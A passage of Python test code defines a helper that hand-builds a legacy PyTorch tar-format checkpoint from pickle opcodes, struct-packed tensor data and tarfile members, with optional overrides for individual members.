      "headerless protocol-0 pickle")


def _old_tar(overrides: dict) -> bytes:
    """A file in torch's pre-1.0 tar layout (sys_info, storages, tensors, pickle), built by hand."""
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 8}}, protocol=2)
    storage_args = P2 + _t(_u("0"), _u("cpu"), _g("torch", "FloatStorage")) + STOP
    storages = pickle.dumps(1, protocol=2) + storage_args + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4)
    tensor_args = P2 + _t(_u("t0"), _u("0"), _g("torch", "FloatTensor")) + STOP
    tensors = pickle.dumps(1, protocol=2) + tensor_args + struct.pack("<ii", 1, 0) + struct.pack("<qqq", 4, 1, 0)
    main = P2 + b"}" + _u("w") + b"(" + _u("tensor") + _u("t0") + b"tQs" + STOP
    members = {"sys_info": sys_info, "storages": storages, "tensors": tensors, "pickle": main}
    members.update(overrides)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            tf.addfile(ti, io.BytesIO(data))
    return out.getvalue()

